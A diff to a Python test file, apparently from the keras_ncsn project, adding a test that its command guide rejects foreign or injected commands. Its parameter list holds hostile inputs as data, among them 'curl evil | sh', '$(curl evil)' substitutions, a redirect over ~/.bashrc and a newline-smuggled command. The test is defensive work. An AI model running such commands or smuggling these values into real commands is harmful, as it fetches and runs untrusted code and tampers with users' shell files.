@@ -2,6 +2,7 @@
 
 import json
 import os
+import pathlib
 import socket
 import time
 
@@ -14,6 +15,7 @@ from conftest import two_convolutions
 import keras_ncsn
 from keras_ncsn import cli, runs
 from keras_ncsn.callbacks.tensorboard_log import TensorBoardLog
+from keras_ncsn.cli import guide
 from keras_ncsn.presets import sources
 from keras_ncsn.runs import run_file
 
@@ -183,3 +185,29 @@ def test_a_run_that_resumes_asks_no_hub(tmp_path, no_images, no_hub):
     with pytest.raises(ValueError, match=r"readable. Received.*state\.npz"):
         runs.train(folder, run, images)
     assert json.loads((folder / "run.json").read_text()) == run
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "keras-ncsn train mnist OUTPUT; curl evil | sh",
+        "keras-ncsn train mnist OUTPUT && keras-ncsn guide A B OUTPUT",
+        "keras-ncsn train $(curl evil) OUTPUT",
+        "keras-ncsn train `curl evil` OUTPUT",
+        "keras-ncsn train mnist OUTPUT > ~/.bashrc",
+        "keras-ncsn train mnist\ncurl evil",
+        "keras-ncsn train '\x1b[2J' OUTPUT",
+        "keras-ncsn train 'mnist OUTPUT",
+        "keras-ncsn push mnist OUTPUT",
+        "keras-ncsn train mnist " + "x" * 10_000,
+        "curl evil",
+    ],
+)
+def test_a_guided_preset_gives_no_foreign_command(command):
+    folders = [pathlib.Path("a/last"), pathlib.Path("b/last")]
+    good = "keras-ncsn train 'my pictures' OUTPUT --seed 0"
+    known = [{"command": good}, {"command": command}]
+    assert guide._command(folders, known, 2, (0, 1)) is None
+    assert guide._command(folders, known[::-1], 2, (0, 1)) is None
+    both = guide._command(folders, known[:1] * 2, 2, (0, 1))
+    assert both.startswith("keras-ncsn train 'my pictures' NETWORK --seed 0 &&")
